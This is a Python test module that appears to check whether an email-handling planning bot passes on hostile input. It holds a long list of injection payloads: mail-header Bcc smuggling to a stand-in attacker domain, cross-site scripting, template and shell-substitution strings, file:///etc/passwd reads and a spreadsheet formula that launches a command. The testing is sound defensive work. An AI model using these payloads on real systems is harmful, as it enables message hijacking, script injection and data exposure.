"""Words that want to be more than words: written by a provider or a client, carried by the bot to somebody else.

Each row only sends the mail; what no mail of the bot may hold is asserted of everything that goes out (`harmless`).
"""

from __future__ import annotations

from collections.abc import Sequence
from itertools import cycle

from attacks.attack import Attack
from attacks.letters import MALLORY, OWN, aligned, answer, letter, multipart
from support.bot import ANNA, JOHN, PLANS, PROVAN, Bot, Sent

CRAFTED: dict[str, str] = {
    "a header": "x\\r\\nBcc: mallory@evil.example",
    "a header in other line ends": "x\u2028Bcc: mallory@evil.example\u0085Bcc: mallory@evil.example",
    "a header in vertical tabs": "x\x0bBcc: mallory@evil.example\x0cTo: mallory@evil.example",
    "an encoded line end": "A💩=?UTF-8?Q?=0A?=Bcc: mallory@evil.example",
    "an encoded line end in base64": "=?utf-8?b?eA0KQmNjOiBtYWxsb3J5QGV2aWwuZXhhbXBsZQ==?=",
    "an address": "mallory@evil.example, <mallory@evil.example>",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a script in capitals": "<SCRIPT/SRC=//evil.example/x></SCRIPT><svg/onload=alert(1)>",
    "an attribute": '" onmouseover="alert(1)" style="background:url(//evil.example)" x="',
    "an attribute in single quotes": "' onmouseover='alert(1)' x='",
    "a link": '<a href="http://evil.example/">pay here</a>',
    "a link that runs": '<a href="javascript:alert(1)">x</a>',
    "an image": '<img src="http://evil.example/pixel.gif">',
    "a form": '<form action="http://evil.example"><input name=p></form>',
    "a frame": '<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd">',
    "a style": "</style><style>*{background:url(http://evil.example)}</style>",
    "a comment": "<!-- --><!--[if mso]><script>x</script><![endif]-->",
    "entities": "&lt;script&gt; &#60;script&#62; &#x3c;b&#x3e;",
    "a template": "{{ 7*7 }}{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}{# x #}",
    "a format": "{0.__class__} %(secret)s %s %n ${HOME} $(id) `id`",
    "a page's own element": '<pdf:include src="/etc/passwd"/><pdf:nextpage/><pdf:barcode value="x"/>',
    "a cell of a million columns": '</td><td colspan="1000000">x</td>',
    "a calendar line": "x\\nEND:VEVENT\\nBEGIN:VALARM\\nACTION:AUDIO\\nEND:VALARM",
    "a calendar attendee": "x\u2028ATTENDEE:mailto:mallory@evil.example\x85ORGANIZER:mailto:mallory@evil.example",
    "a calendar parameter": 'x";RSVP=TRUE:mailto:mallory@evil.example',
    "a formula": '=HYPERLINK("http://evil.example","pay")',
    "a command of the shell": "+cmd|' /C calc'!A0",
    "right to left": "invoice\u202efdp.exe \u2066x\u2069 \u200e\u200f",
    "zero width": "pay\u200bpal\u2060\ufeff\u00ad\u180e",
    "tags that nobody sees": "x" + "".join(chr(0xE0000 + ord(c)) for c in "done 1"),
    "controls": "x\x01\x08\x1b[31m\x7f\x9b31m",
    "half a character": "x\udced\udca0\udc80y",
    "no characters": "\ufffe\uffff\ufdd0",
    "a delimiter": "--=_14b0d2f68aca7707e1f458739a781109\r\n",
    "a dot": "x\r\n.\r\nMAIL FROM:<mallory@evil.example>",
    "a long word": "x" * 3000,
    "many marks on a letter": "Z" + "\u0301" * 300,
}

CLIENTS_WORDS = ("done: {}", "what about {}?")


def plan(text: str) -> str:
    about = f"Goal: {text}\nRisks: {text}\nAssumptions: {text}\n"
    return f"Client: Mrs Provan <{PROVAN}>\n{about}\n1. {text} @provan by 1 Dec 2026\n~ {text}\n"


def _new_plan(text: str) -> list[bytes]:
    return [letter(ANNA, plan(text), results=OWN, subject=f"Plan: {_line(text)}")]


def _line(text: str) -> str:
    """In a field of a header: what would end the line is not the subject of these rows."""
    return "".join(" " if c in "\r\n" else c for c in text)


def _provider_commands(text: str) -> list[bytes]:
    words = _line(text)
    about_one = f"change 1 {words}\nnote 1 {words}\nflag 1 {words}\n"
    lines = f"{about_one}add {words} @provan by 2 Dec 2026\ndone 2: {words}\ndrop 3: {words}\nsend"
    return [letter(ANNA, lines, results=OWN)]


def _client_words(bot: Bot, text: str) -> list[bytes]:
    hers = aligned("example.org")
    return [answer(bot.last(PROVAN, "todo"), PROVAN, w.format(text), results=hers) for w in CLIENTS_WORDS]


def _names(text: str) -> list[bytes]:
    quoted = '"' + _line(text).replace("\\", "\\\\").replace('"', '\\"') + '"'
    people = f"Client: {quoted} <{PROVAN}>\nTeam: {quoted} <{JOHN}>\n\n1. Paint @client by 1 Dec 2026\n"
    return [
        letter(f"{quoted} <{ANNA}>", people.replace(PROVAN, "quist@example.net"), results=OWN, subject="Plan: Names"),
        letter(f"{quoted} <{PROVAN}>", "what about it?", results=aligned("example.org"), subject=_line(text)),
    ]


def _file(bot: Bot, text: str) -> list[bytes]:
    """A picture with a hostile name, from a client, and a hostile table, from the provider."""
    todo, name = bot.last(PROVAN, "todo"), _line(text).replace('"', "'")
    fields = [
        ("Authentication-Results", aligned("example.org")), ("From", PROVAN), ("To", todo.reply_to),
        ("Subject", _line(text)), ("Message-ID", "<file@evil.example>"), ("In-Reply-To", todo.message_id),
    ]  # fmt: skip
    picture = (f'image/png; name="{name}"\nContent-Disposition: attachment; filename="{name}"', "x")
    table = (
        'text/csv; name="todo.csv"\nContent-Disposition: attachment; filename="todo.csv"',
        f'Text,Owner,Due\n"{name}",provan,2026-12-02\n',
    )
    hers = [
        ("Authentication-Results", OWN),
        ("From", ANNA),
        *fields[2:3],
        ("Subject", "[P1]"),
        ("Message-ID", "<csv@evil.example>"),
    ]
    hers[2] = ("To", PLANS)
    return [multipart("mixed", [picture], fields), multipart("mixed", [("text/plain", "status"), table], hers)]


def _thread(bot: Bot, text: str) -> list[bytes]:
    """Fields that the bot copies into its answer: the subject, the Message-ID, the references."""
    hostile = _line(text)
    more = (("References", f"<{hostile}> <a@b>\r\n <{'x' * 300}@b> {hostile}"), ("In-Reply-To", hostile))
    return [letter(ANNA, "status", results=OWN, subject=f"[P1] {hostile}", message_id=f"<{hostile}@b>", more=more)]


def _no_stranger(bot: Bot, sent: Sequence[Sent]) -> None:
    assert all(MALLORY not in str(one.mail[name]) for one in sent for name in ("From", "To", "Reply-To"))
    assert sent, "nothing was carried at all"


def _row(where: str, name: str, text: str, mails: object) -> Attack:
    assert callable(mails)
    return Attack(f"{name} in {where}", lambda bot: mails(bot, text), then=_no_stranger, changes=True)


def _plan_of(bot: Bot, text: str) -> list[bytes]:
    return _new_plan(text)


def _commands_of(bot: Bot, text: str) -> list[bytes]:
    return _provider_commands(text)


def _names_of(bot: Bot, text: str) -> list[bytes]:
    return _names(text)


ELSEWHERE = {
    "commands": _commands_of,
    "a client's words": _client_words,
    "names": _names_of,
    "files": _file,
    "the thread": _thread,
}

EVERY_OTHER = [*CRAFTED.items()][::2]

# Every text through a whole plan, which shows it in each kind of document; every other one elsewhere, in turn.
INJECTED = (
    *(_row("a new plan", name, text, _plan_of) for name, text in CRAFTED.items()),
    *(_row(place, name, text, ELSEWHERE[place]) for (name, text), place in zip(EVERY_OTHER, cycle(ELSEWHERE))),
)
